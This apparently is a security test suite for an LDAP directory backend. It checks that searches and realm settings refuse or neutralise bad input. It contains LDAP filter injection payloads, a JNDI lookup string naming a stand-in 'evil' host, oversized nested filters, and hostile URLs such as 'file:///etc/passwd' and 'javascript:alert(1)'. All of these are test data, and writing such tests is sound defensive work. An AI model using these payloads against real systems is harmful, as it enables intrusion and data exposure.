// Bad input, through the real backend against a real slapd (2,000 seeded users plus the awkward
// ones): filter injection payloads, "*" edge cases, a 1 MiB query, filters nested 1,000 to 100,000
// deep, NUL, lone surrogates, emoji, CJK, RTL, DNs with escaped commas, quotes and "+", leading and
// trailing spaces, empty and whitespace-only text, a binary attribute, entries without the UUID
// attribute; and directory URLs that must be refused.
// Expected: each either gives exactly the users whose attributes literally contain the text (an
// injection never widens the result), or a 1002/1003 error naming the field, within a second for
// the oversized ones; the backend keeps answering afterwards; nothing is written by a search.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { ErrorCodes } from '../../protocol/errors';
import type { Realm, SearchMode } from '../../protocol/model';
import { RealmSave, RealmSearch, UserGet, UserImport, UserList } from '../../protocol/rpc';
import { startSlapd, type SlapdHandle } from '../../scripts/directory/slapd';
import type { SeedUser } from '../../scripts/directory/seedUsers';
import { startBackend, type BackendHandle } from '../support/backendClient';
import { tryEach, tryFault } from '../support/reliabilityTally';
import { assertNoPasswords, backendArtifacts, expectRpcError, fingerprint, slapdRealm, timed } from './reliabilitySupport';

let slapd: SlapdHandle;
let backend: BackendHandle;
let realm: Realm;
/** Every person the directory holds (seed + entries added here), by uid. */
let people: SeedUser[];

const extraPeople = (baseDn: string) => `dn: cn=Plus+uid=plus.user,ou=Engineering,ou=People,${baseDn}
objectClass: inetOrgPerson
cn: Plus
uid: plus.user
sn: Plusser
mail: plus.user@example.test

dn: cn=Quote \\"Q\\" Person,ou=Engineering,ou=People,${baseDn}
objectClass: inetOrgPerson
cn: Quote "Q" Person
uid: quote.person
sn: Person

dn: uid=arabic.user,ou=Sales,ou=People,${baseDn}
objectClass: inetOrgPerson
uid: arabic.user
cn:: ${Buffer.from('مريم الأحمد').toString('base64')}
sn:: ${Buffer.from('الأحمد').toString('base64')}
`;

before(async () => {
  slapd = await startSlapd({ users: 2000, extraLdif: extraPeople('dc=example,dc=test') });
  people = [
    ...slapd.users,
    { uid: 'plus.user', cn: 'Plus', sn: 'Plusser', mail: 'plus.user@example.test', dn: '', ou: 'Engineering', disabled: false },
    { uid: 'quote.person', cn: 'Quote "Q" Person', sn: 'Person', dn: '', ou: 'Engineering', disabled: false },
    { uid: 'arabic.user', cn: 'مريم الأحمد', sn: 'الأحمد', dn: '', ou: 'Sales', disabled: false },
  ];
  backend = await startBackend({ secrets: (p) => (p.bindDn === slapd.readerDn ? slapd.readerPassword : null) });
  realm = await backend.request(RealmSave, { realm: slapdRealm(slapd, { pageSize: 500, timeoutMs: 10_000 }) });
});

after(async () => {
  if (backend && !backend.hasExited) assertNoPasswords(await backendArtifacts(backend), [slapd.readerPassword, slapd.adminPassword]);
  await backend?.stop();
  await slapd?.stop();
});

/** The specification: every term's literal parts (split at "*") found, in order, in one keyword attribute. */
function expectedUids(query: string): string[] {
  const terms = query.trim().split(/\s+/u).filter((t) => t !== '');
  const matchesTerm = (p: SeedUser, term: string) => {
    const parts = term.split('*').filter((x) => x !== '').map((x) => x.toLowerCase());
    if (parts.length === 0) return true;
    return [p.uid, p.cn, p.givenName, p.sn, p.mail].some((value) => {
      if (value === undefined) return false;
      let at = 0;
      const v = value.toLowerCase();
      for (const part of parts) {
        const i = v.indexOf(part, at);
        if (i < 0) return false;
        at = i + part.length;
      }
      return true;
    });
  };
  return people.filter((p) => terms.every((t) => matchesTerm(p, t))).map((p) => p.uid).sort();
}

async function search(query: string, mode: SearchMode = 'auto'): Promise<string[]> {
  const result = await backend.request(RealmSearch, { realmId: realm.id, query, mode, limit: 100_000 });
  assert.equal(result.truncated, false);
  return result.entries.map((e) => e.username).sort();
}

describe('search text through realm/search against slapd', { timeout: 90_000 }, () => {
  test('injection payloads and "*" edge cases: exactly the literal matches, never more', async () => {
    const payloads = [
      '*)(uid=*', '*)(|(uid=*', 'admin)(!(&(1=0', ')(objectClass=*', '*)(objectClass=*))(|(cn=*', 'x*)(&', '\\', '\\2a', '\\zz', ')',
      '${jndi:ldap://evil}', '*()|&!=<>~', 'alice)(uid=*)', '*)%00', 'a*', '*a*', '**', '* *', '***', 'al*ce', '*ice', 'Doe, John', 'Zoë', 'zoe',
      '🚀', '小明', 'Rita 🚀', 'Quote "Q"', 'Plus', 'alice bob', 'ALICE', '.', '@example.test',
    ];
    const before = fingerprint(backend.databasePath);
    await tryEach('bad search input', payloads, (p) => `keyword ${JSON.stringify(p)}`, async (payload) => {
      const got = await search(payload, 'keyword');
      assert.deepEqual(got, expectedUids(payload), `keyword ${JSON.stringify(payload)}`);
    });
    // In auto mode text that does not start with "(" is keywords, "*" alone is everyone.
    // (The auto-mode pass repeats the payloads that auto mode could read differently.)
    const autoPayloads = ['*)(uid=*', ')(objectClass=*', '\\', '*', '**', '* *', 'a*', '*()|&!=<>~', '${jndi:ldap://evil}'];
    await tryEach('bad search input', autoPayloads, (p) => `auto ${JSON.stringify(p)}`, async (payload) => {
      assert.deepEqual(await search(payload), payload.trim() === '*' || /^\*+$/.test(payload.trim()) ? people.map((p) => p.uid).sort() : expectedUids(payload));
    });
    assert.equal(fingerprint(backend.databasePath), before, 'a search writes nothing');
  });

  test('username mode: the exact name only; "*" and filter syntax are literal; spaces trimmed', async () => {
    const cases: [string, string[]][] = [
      ['*', []], ['al*', []], ['*)(uid=*', []], [slapd.awkward.contractor.uid, [slapd.awkward.contractor.uid]],
      [`  ${slapd.awkward.spaces.uid}  `, [slapd.awkward.spaces.uid]], ['PLUS.USER', ['plus.user']], ['quote.person', ['quote.person']],
      ['nobody\0', []], ['\0', []], ['a\u202e', []],
    ];
    await tryEach('bad search input', cases, ([q]) => `username ${JSON.stringify(q)}`, async ([query, expected]) => {
      assert.deepEqual(await search(query, 'username'), expected.sort());
    });
  });

  test('NUL, control characters, RTL and zero-width text: no error, no injected match', async () => {
    const inputs = ['a\0b', '\0', '\u0001', 'ali\u0000ce', '\u202eecila', '\u200b', '\u200balice', 'مريم', 'ש', 'e\u0301'];
    await tryEach('bad search input', inputs, (q) => `keyword ${JSON.stringify(q)}`, async (query) => {
      const got = await search(query, 'keyword');
      // Control characters and "mapped to nothing" characters alone can match nobody.
      // eslint-disable-next-line no-control-regex
      if (/[\u0000-\u001f]/.test(query) || /^[\u200b\u202e]+$/.test(query)) assert.deepEqual(got, [], JSON.stringify(query));
      else assert.ok(got.length <= expectedUids(query.replace(/[\u200b\u202e]/g, '')).length, `${JSON.stringify(query)} found ${got.length}`);
    });
    assert.deepEqual(await search('مريم', 'keyword'), ['arabic.user']);
  });

  test('text that is not a search is refused quickly with 1002/1003 naming the field', async () => {
    const huge = 'a'.repeat(1 << 20);
    const cases: { name: string; query: string; mode: SearchMode; code: number }[] = [
      { name: '1 MiB keyword', query: huge, mode: 'keyword', code: ErrorCodes.invalidInput },
      { name: '1 MiB username', query: huge, mode: 'username', code: ErrorCodes.invalidInput },
      { name: '1 MiB raw filter', query: `(cn=${huge})`, mode: 'filter', code: ErrorCodes.invalidInput },
      { name: '10,000-deep (! filter', query: `${'(!'.repeat(10_000)}(uid=x)${')'.repeat(10_000)}`, mode: 'filter', code: ErrorCodes.invalidInput },
      { name: '1,000-deep (& filter (under 4 KiB)', query: `${'(&'.repeat(1000)}(uid=x)${')'.repeat(1000)}`, mode: 'auto', code: ErrorCodes.invalidFilter },
      { name: '100,000-deep (| filter', query: `${'(|'.repeat(100_000)}(uid=x)${')'.repeat(100_000)}`, mode: 'filter', code: ErrorCodes.invalidInput },
      { name: '10,000 × "("', query: '('.repeat(10_000), mode: 'auto', code: ErrorCodes.invalidInput },
      { name: '2,000 × "(" (under 4 KiB)', query: '('.repeat(2000), mode: 'auto', code: ErrorCodes.invalidFilter },
      { name: 'unbalanced raw filter', query: '(uid=a', mode: 'auto', code: ErrorCodes.invalidFilter },
      { name: 'raw filter with trailing injection', query: '(uid=a))(|(uid=*', mode: 'auto', code: ErrorCodes.invalidFilter },
      { name: 'raw filter with NUL', query: '(uid=a\0)', mode: 'filter', code: ErrorCodes.invalidFilter },
      { name: 'lone high surrogate', query: 'ab\ud800cd', mode: 'keyword', code: ErrorCodes.invalidInput },
      { name: 'lone low surrogate (username)', query: '\udc00', mode: 'username', code: ErrorCodes.invalidInput },
      { name: 'empty', query: '', mode: 'auto', code: ErrorCodes.invalidInput },
      { name: 'whitespace only', query: ' \t\n\u00a0\u3000 ', mode: 'keyword', code: ErrorCodes.invalidInput },
      { name: '33 keywords', query: Array.from({ length: 33 }, (_, i) => `w${i}`).join(' '), mode: 'keyword', code: ErrorCodes.invalidInput },
    ];
    await tryEach('bad search input', cases, (c) => c.name, async (c) => {
      const outcome = await timed(expectRpcError(backend.request(RealmSearch, { realmId: realm.id, query: c.query, mode: c.mode }), c.code, [], c.name));
      assert.ok(outcome.ms < 3000, `${c.name}: refused after ${Math.round(outcome.ms)} ms`);
      const error = outcome.value!;
      assert.ok(['query', undefined].includes((error.data as { field?: string } | undefined)?.field), `${c.name}: names the query field`);
    });
    // Still answering, and correct, after all that.
    assert.deepEqual(await search(slapd.awkward.emoji.uid, 'username'), [slapd.awkward.emoji.uid]);
  });
});

describe('awkward entries import correctly', { timeout: 60_000 }, () => {
  test('escaped comma, quotes, "+" RDN, spaces, emoji, CJK, binary photo: imported by DN with the DN as the server spells it', async () => {
    const listed = await backend.request(RealmSearch, { realmId: realm.id, query: '*', limit: 100_000 });
    const byUid = new Map(listed.entries.map((e) => [e.username, e]));
    const targets = [slapd.awkward.contractor, slapd.awkward.spaces, slapd.awkward.emoji, slapd.awkward.cjk, slapd.awkward.photo, slapd.awkward.zoe]
      .map((u) => u.uid)
      .concat(['plus.user', 'quote.person', 'arabic.user']);
    await tryEach('awkward entries', targets, (uid) => uid, async (uid) => {
      const entry = byUid.get(uid);
      assert.ok(entry, `${uid} is listed`);
      const report = await backend.request(UserImport, { realmId: realm.id, entries: [{ dn: entry.dn }] });
      assert.equal(report.created + report.unchanged + report.updated, 1, `${uid}: ${JSON.stringify(report.failed)}`);
      const user = (await backend.request(UserList, { text: uid, realmId: realm.id })).users.find((u) => u.username === uid);
      assert.ok(user, `${uid} is in the registry`);
      assert.equal(user.ldapDn, entry.dn, `${uid}: the DN is kept as the server spells it`);
      assert.equal(user.ldapUuid, entry.uuid);
      const seed = people.find((p) => p.uid === uid)!;
      assert.equal(user.displayName, seed.cn, `${uid}: the name is byte-exact (spaces, emoji, quotes)`);
    });
    const photo = (await backend.request(UserList, { text: slapd.awkward.photo.uid })).users[0];
    const detail = await backend.request(UserGet, { userId: photo.id });
    assert.ok(!JSON.stringify(detail).includes('\ufffd'), 'a binary value is never shown as mangled text');
  });

  test('entries without the UUID attribute are listed as not importable and never imported', async () => {
    await tryFault('awkward entries', 'entries without the UUID attribute', async () => {
      // employeeNumber is the identity here: the awkward users have none.
      const noUuid = await backend.request(RealmSave, { realm: slapdRealm(slapd, { name: 'UUID = employeeNumber', attributes: { uuid: 'employeeNumber' }, pageSize: 500, timeoutMs: 10_000 }) });
      const found = await backend.request(RealmSearch, { realmId: noUuid.id, query: 'Rocket', mode: 'keyword' });
      const rita = found.entries.find((e) => e.username === slapd.awkward.emoji.uid);
      assert.ok(rita, 'still listed');
      assert.equal(rita.status, 'conflict');
      assert.match(rita.conflict ?? '', /employeeNumber/);
      const before = (await backend.request(UserList, { realmId: noUuid.id })).total;
      const report = await backend.request(UserImport, { realmId: noUuid.id, entries: [{ username: slapd.awkward.emoji.uid }, { username: slapd.users[9].uid }] });
      assert.equal(report.created, 1, 'the user with an identity is imported');
      assert.equal(report.failed.length, 1, 'the one without is reported, not imported');
      assert.match(report.failed[0].reason, /employeeNumber/);
      assert.equal((await backend.request(UserList, { realmId: noUuid.id })).total, before + 1);
    });
  });
});

describe('directory URLs and DNs that must be refused', () => {
  test('realm/save refuses each with 1002 on realm.url, without echoing a password', async () => {
    const urls = [
      'ldap:///', 'ldap://', 'ldaps://', 'ldap://:389', 'ldap://user:S3cret-In-Url@127.0.0.1', 'ldap://127.0.0.1/dc=example,dc=test?cn?sub',
      'ldap://127.0.0.1:389/dc=x', 'http://127.0.0.1', 'https://127.0.0.1', 'file:///etc/passwd', 'javascript:alert(1)', 'ldapi:///var/run/slapd',
      'ldap://127.0.0.1:0', 'ldap://127.0.0.1:70000', 'ldap://127.0.0.1:99999', 'ldap://127.0.0.1:-1', 'ldap://127.0.0.1:abc', 'ldap://[::1',
      'ldap://exa mple.org', 'ldap://127.0.0.1\0', '', '   ', 'ldap://a..b', `ldap://${'a'.repeat(300)}.org`,
    ];
    await tryEach('directory URLs', urls, (u) => JSON.stringify(u), async (url) => {
      const error = await expectRpcError(backend.request(RealmSave, { realm: slapdRealm(slapd, { name: `URL ${urls.indexOf(url)}`, url }) }), ErrorCodes.invalidInput, ['S3cret-In-Url'], url);
      assert.equal((error.data as { field?: string }).field, 'realm.url', url);
    });
  });

  test('DNs with escapes are accepted as bind and base DNs; broken ones refused with the field named', async () => {
    const good = [`cn=Doe\\, John (contractor),ou=Contractors,ou=People,${slapd.baseDn}`, `cn=Plus+uid=plus.user,ou=Engineering,ou=People,${slapd.baseDn}`, `cn=Quote \\"Q\\" Person,ou=Engineering,ou=People,${slapd.baseDn}`, `cn=#41,${slapd.baseDn}`];
    await tryEach('DN input', good, (dn) => `bind DN ${dn}`, async (bindDn) => {
      const saved = await backend.request(RealmSave, { realm: slapdRealm(slapd, { name: `DN ${good.indexOf(bindDn)}`, bindDn }) });
      assert.equal(saved.bindDn, bindDn);
    });
    const bad: [string, string][] = [
      ['baseDn', 'dc=example,dc=test\0'], ['baseDn', 'no equals sign'], ['baseDn', 'cn="unbalanced,dc=x'], ['bindDn', ''], ['bindDn', '   '], ['baseDn', ','],
      ['bindDn', 'cn=a\\'],
    ];
    await tryEach('DN input', bad, ([f, dn]) => `${f} ${JSON.stringify(dn)}`, async ([field, dn]) => {
      const error = await expectRpcError(backend.request(RealmSave, { realm: slapdRealm(slapd, { name: `Bad DN ${field}`, [field]: dn }) }), ErrorCodes.invalidInput, [], dn);
      assert.equal((error.data as { field?: string }).field, `realm.${field}`);
    });
  });
});
